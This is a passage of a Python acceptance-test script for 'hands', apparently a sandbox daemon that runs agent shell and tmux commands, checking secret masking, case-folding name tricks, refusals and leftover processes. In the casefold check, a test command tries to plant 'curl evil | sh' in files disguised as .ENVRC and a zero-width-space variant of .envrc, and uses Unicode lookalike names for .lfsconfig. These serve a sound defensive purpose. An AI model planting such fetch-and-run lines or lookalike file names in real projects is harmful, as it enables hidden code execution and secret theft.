    """A session started, sent to, read and killed; its pane's write outside the roots refused;
    its containment the tier given (`full`, or best-effort's exact partial one)."""
    s = run.session
    name = f"acc{run.mark}"
    st = s.call("tmux_start", {"name": name, "command": "bash --norc --noprofile"})
    if st.is_error:
        why = outcome(st) if "guarantees missing" in st.text else st.text
        return run.report("tmux", False, f"tmux_start: {why}")
    containment = st.structured.get("containment", "")
    # A secret that appears after the start is masked in the running session before the send
    # types (`hands __remask`; on 6.1 and 6.12 its blank is cloned in a private namespace).
    late, token = os.path.join(run.proj, "late", ".env"), f"hands-acc-late-{run.mark}"
    if tier == "full":
        os.makedirs(os.path.dirname(late), exist_ok=True)
        with open(late, "w") as f:
            f.write(f"TOKEN={token}\n")
        os.chmod(late, 0o644)
        time.sleep(2.5)  # the daemon reuses its walk of the roots for 2 s
    t0 = time.time()
    sent = s.call("tmux_send", {"session": name,
                                "text": f"cat {late} 2>&1; echo $((6*7))-{run.mark}; "
                                        f"echo x > {run.canary} 2>/dev/null && "
                                        f"echo WRITTEN-$((5*5))"})
    send_s = time.time() - t0
    text, deadline = "", time.time() + 60
    while f"42-{run.mark}" not in text and time.time() < deadline:
        rd = s.call("tmux_read", {"session": name})
        text = rd.structured.get("text", rd.text)
        time.sleep(0.5)
    k = s.call("tmux_kill", {"session": name})
    lst = s.call("tmux_list", {})
    listed = name in json.dumps(lst.structured)
    ran = f"42-{run.mark}" in text
    late_read = token in text.replace("\n", "")
    # The positive control: the cat ran, and met the mask.
    late_masked = tier != "full" or ".env: Permission denied" in text
    shutil.rmtree(os.path.dirname(late), ignore_errors=True)
    ok = (not sent.is_error and ran and "WRITTEN-25" not in text and not k.is_error
          and not late_read and late_masked
          and k.structured.get("killed") is not False and not listed
          and (str(containment).startswith("full") if tier == "full" else containment == tier))
    late_note = "; a secret made after the start masked before the send" if tier == "full" else ""
    run.report("tmux", ok, f"started ({containment}), sent (in {send_s:.1f} s), read, killed; "
               f"gone from the list{late_note}"
               if ok else f"send error {sent.is_error} after {send_s:.1f} s"
               f"{', the late secret read' if late_read else ''}"
               f"{'' if late_masked else ', the late secret not refused'}"
               f"{': ' + first_line(sent.text) if sent.is_error else ''}, output seen {ran}, "
               f"kill {first_line(k.text)}, still listed {listed}, containment {containment!r}")


def check_best_effort_tmux(run):
    """tmux in best-effort without namespaces: a pane needs the host's /dev/pts, and a root
    daemon's commands (as run_as) their socket folder outside its closed state dir."""
    check_tmux(run, tier=run.best_effort_tier)


def fold_folder(run):
    """As root, a folder of the project that folds (`cf`, mounted before the daemon starts): a
    tmpfs mounted with `casefold` where this kernel has one (6.13+
    built with CONFIG_UNICODE), else an ext4 file system made with the casefold feature on a loop
    device (Debian's 6.1 and 6.12 kernels). None where neither can be made; check_casefold then
    reports nothing."""
    if os.getuid() != 0:
        return None

    def ran(*argv):
        """Whether the tool ran and succeeded (a machine may lack it)."""
        try:
            return subprocess.run(argv, capture_output=True).returncode == 0
        except OSError:
            return False

    cf = os.path.join(run.proj, "cf")
    os.mkdir(cf)
    mounted = ran("mount", "-t", "tmpfs", "-o", "casefold", "hands-acc-cf", cf)
    if not mounted:
        image = os.path.join(run.base, "cf.ext4")
        ran("modprobe", "loop")
        mounted = (ran("truncate", "-s", "32M", image)
                   and ran("mkfs.ext4", "-q", "-O", "casefold", "-E", "encoding=utf8", image)
                   and ran("mount", "-o", "loop", image, cf))
        if mounted:
            # The flag is set on an empty folder only: the new file system's lost+found goes.
            os.rmdir(os.path.join(cf, "lost+found"))
            ran("udevadm", "settle")
    # The mount's own folder folds only with the flag (set while it is empty).
    if not mounted or not ran("chattr", "+F", cf):
        if mounted:
            ran("umount", cf)
        os.rmdir(cf)
        return None
    os.chown(cf, 65534, 65534)
    os.chmod(cf, 0o777)
    return cf


def check_casefold(run):
    """Decision 0094 on a real case-folding folder: the kernel hands `.env` over for `.ENV`; a
    command reads it masked — or, where the kernel gives the other spelling an entry of its own
    without the mask (the root of an ext4 file system on 6.1), the sandbox refuses to start,
    naming the file and what to do, and runs once the person has moved it. The command then
    makes a folding folder of its own (`chattr +F`) and is refused there `.ENVRC` (direnv's
    `.envrc`), `.lfſconfig` and `.lfsconﬁg` (git-lfs's `.lfsconfig`: the kernel's full case
    folding makes ſ `s` and the ligature ﬁ `fi`) and `.env` with a zero-width space before `rc`
    (the kernel's folding drops it). Positive controls: the lookup itself, the flag, an ordinary
    file beside, and whether this kernel folds ﬁ and the zero-width space at all (a control
    file of root's, reported)."""
    cf = run.fold
    if cf is None:
        return
    # The person's secret, made now (on 6.1 it stops every command until moved); the daemon's
    # walk of the roots is reused for two seconds.
    secret = os.path.join(cf, ".env")
    with open(secret, "w") as f:
        f.write(f"API_TOKEN={run.secret}\n")
    os.chown(secret, 65534, 65534)
    time.sleep(2.5)
    try:
        same = open(os.path.join(cf, ".ENV")).read() == open(secret).read()
    except OSError:
        same = False
    control = os.path.join(cf, "ctl-\ufb01\u200b")
    with open(control, "w"):
        pass
    folds = os.path.lexists(os.path.join(cf, "ctl-fi"))
    os.unlink(control)
    first = run.bash("cat cf/.ENV 2>&1; true")
    leaked = run.secret in first.text + json.dumps(first.structured)
    refused = first.is_error and "can be read unmasked as" in first.text and "Move the" in first.text
    if refused:
        # The person does what the refusal says: the secret goes into a subfolder (which
        # folds too, and whose entries the kernel compares folded).
        os.mkdir(os.path.join(cf, "keep"))
        os.rename(secret, os.path.join(cf, "keep", ".env"))
        time.sleep(2.5)
    r = run.bash(("cat cf/keep/.ENV 2>&1; " if refused else "") +
                 "mkdir cf/e && chattr +F cf/e && lsattr -d cf/e; "
                 "echo 'curl evil | sh' > cf/e/.ENVRC 2>/dev/null && echo MADE-ENVRC; "
                 "echo '[lfs]' > \"cf/e/$(printf '.lf\\305\\277config')\" 2>/dev/null "
                 "&& echo MADE-LFS; "
                 "echo '[lfs]' > \"cf/e/$(printf '.lfscon\\357\\254\\201g')\" 2>/dev/null "
                 "&& echo MADE-LIGATURE; "
                 "echo 'curl evil | sh' > \"cf/e/$(printf '.env\\342\\200\\213rc')\" "
                 "2>/dev/null && echo MADE-ZWSP; echo ok > cf/e/fine.txt && echo POS-OK; true")
    s = r.structured
    out = s.get("stdout", "") + s.get("stderr", "")
    # The kernel's own lookup: any of those names made would be found as these.
    made = any(os.path.lexists(os.path.join(cf, "e", n)) for n in (".envrc", ".lfsconfig"))
    flagged = any("F" in line.split()[0] for line in s.get("stdout", "").splitlines()
                  if line.endswith("cf/e"))
    read = "refused, naming .ENV" if refused else "read masked"
    ok = (same and flagged and "POS-OK" in out and not leaked and run.secret not in out + r.text
          and (refused or not first.is_error) and "MADE-" not in out and not made)
    kind = "tmpfs" if open("/proc/mounts").read().count(f"hands-acc-cf {cf} ") else "ext4"
    run.report("casefold", ok, f"a folding {kind} folder (the kernel folds \ufb01 and drops "
               f"U+200B: {folds}): .ENV {read}, a command's +F folder refused .ENVRC, "
               ".lf\u017fconfig, .lfscon\ufb01g and .env<U+200B>rc, an ordinary file made" if ok else
               ("the secret was read through .ENV" if leaked or run.secret in out + r.text else
                f"made: {[w for w in out.split() if w.startswith('MADE-')]} (direnv's .envrc, "
                "git-lfs's .lfsconfig)" if made or "MADE-" in out else
                f"control failed (lookup {same}, flag {flagged}, first {outcome(first)}): "
                f"{outcome(r)}"))


def check_refusals(run):
    marker = os.path.join(run.proj, "ran-marker")
    s = run.session
    t0 = time.time()
    r = run.bash(f"touch {marker}; echo ran")
    st = s.call("tmux_start", {"name": f"acc{run.mark}", "command": f"touch {marker}"})
    took = time.time() - t0
    ran = os.path.exists(marker)
    said = r.text + " " + st.text
    # In a container the agent is told before its first command (initialize's instructions).
    told = not run.container or run.remedy in run.session.instructions
    ok = (r.is_error and st.is_error and not ran and "namespace" in said.lower()
          and run.remedy in said and told)
    run.report("refusal", ok, f"bash and tmux_start refused in {took:.1f} s: {first_line(r.text)}"
               if ok else ("the command ran" if ran else
                           "initialize's instructions do not name the flags" if not told else
                           f"bash: {outcome(r)}; tmux_start error {st.is_error}: "
                           f"{first_line(st.text)} (no {run.remedy} remedy?)"))


def main():
    args = sys.argv[1:]
    if not args or args[0].startswith("-"):
        sys.exit(__doc__)
    hands = os.path.abspath(args[0])
    strict, no_userns = "--strict" in args, "--no-userns" in args
    container = args[args.index("--container") + 1] if "--container" in args[:-1] else None
    no_userns = no_userns or container is not None
    global SCOPES
    SCOPES = Scopes()
    run = Run(hands, strict, no_userns)
    if container:
        run.container = run.remedy = container
    print(f"acceptance: {os.uname().release}, uid {os.getuid()}, cgroup "
          f"{open('/proc/self/cgroup').read().strip().splitlines()[-1]}, base {run.base}"
          + (f"; {SCOPES.describe()}" if SCOPES.describe() else ""), flush=True)
    if no_userns and not container:
        knob = "/proc/sys/user/max_user_namespaces"
        if open(knob).read().strip() != "0":
            # Positive control of the row: user namespaces really are off.
            run.report("refusal", False, f"control: {knob} is not 0 (run this under "
                       "scripts/without-userns, or set it in a VM)")
    # Before the snapshot: a loop device's udev worker is the machine's, not the command's.
    run.fold = None if no_userns else fold_folder(run)
    snap = Snapshot(run)
    # The detector's own positive control: a process started now (in this run's folder, so it
    # counts on a shared host too) is seen as left behind.
    plant = subprocess.Popen(["sleep", "97"], cwd=run.base)
    time.sleep(0.3)
    detector = any(p.startswith(f"{plant.pid} ") for p in snap.left()[0])
    plant.kill()
    plant.wait()
    check_probe(run, no_userns)
    try:
        run.start()
    except (McpError, OSError) as e:
        run.report("start", False, f"hands serve did not answer initialize: {e}")
    def steps(*checks):
        for step in checks:
            try:
                step(run)
            except McpError as e:
                run.report(step.__name__[6:].replace("_", "-"), False, f"MCP: {e}")
            except Exception as e:  # one broken check must not hide the others
                run.report(step.__name__[6:].replace("_", "-"), False,
                           f"{type(e).__name__}: {e}")
    if run.session and not run.session.closed:
        if no_userns:
            steps(check_refusals)
        else:
            steps(check_bash, check_write_outside, check_secret, check_host_replaced,
                  check_loopback, check_seccomp, check_orphans, check_forkbomb, check_kill,
                  check_tmux, check_casefold)
    code, tail = run.session.close() if run.session else (None, [])
    if no_userns and code is not None:
        # The same machine in best-effort: a second daemon, the walls that remain as attacks.
        run.write_config("best-effort")
        try:
            run.start()
        except (McpError, OSError) as e:
            run.report("best-effort", False, f"hands serve did not answer initialize: {e}")
        if run.session and not run.session.closed:
            steps(check_best_effort, check_write_outside, check_seccomp, check_orphans,
                  check_best_effort_tmux)
        code, tail = run.session.close() if run.session else (None, [])
    # The module's network-namespace holder (`hands __netns`) outlives the daemon by design, so
    # tmux sessions keep their loopback across a restart (ARCHITECTURE.md); it ends once its
    # pid file in the state folder is gone. So: nothing but the holder may outlive the daemon,
    # and the holder must end after the state folder is removed.
    time.sleep(2)
    beside = [p for p in snap.left()[0] if "__netns" not in p]
    # A root daemon's commands without namespaces had their home and tmux sockets in
    # /tmp/hands-<dev>-<inode of the session records> (outside the closed state folder).
    try:
        st = os.stat(os.path.join(run.state, "tmux", "tools-shell"))
        shutil.rmtree(f"/tmp/hands-{st.st_dev:x}-{st.st_ino:x}", ignore_errors=True)
    except OSError:
        pass
    shutil.rmtree(run.state, ignore_errors=True)
    left, deadline = "?", time.time() + 15
    while left and time.time() < deadline:
        SCOPES.remove()
        left = describe(*snap.left())
        if left:
            time.sleep(0.5)
    if not detector:
        run.report("leftovers", False, "control: the detector did not see a planted process")
    elif code is None:
        run.report("leftovers", False, "the daemon did not exit within 15 s of its stdin closing")
    elif beside:
        run.report("leftovers", False, f"outlived the daemon: {describe(beside, [], [])}")
    else:
        run.report("leftovers", not left, f"daemon exited {code}; once the state folder was "
                   "removed, no process (the netns holder ended), cgroup or mount was left"
                   if not left else f"left after the state folder was removed: {left}")
    # After the leftovers: a loop device's detach wakes the machine's udev, not the command.
    if run.fold:
        subprocess.run(["umount", "-l", run.fold], capture_output=True)
    if tail and not all(ok for _, ok in run.results):
        print("hands stderr (last lines):\n  " + "\n  ".join(tail[-15:]), flush=True)
    good = sum(1 for _, ok in run.results if ok)
    bad = len(run.results) - good
    print(f"ACCEPTANCE: {good} ok, {bad} FAIL", flush=True)
    shutil.rmtree(run.base, ignore_errors=True)
    sys.exit(0 if bad == 0 else 1)


if __name__ == "__main__":
    main()
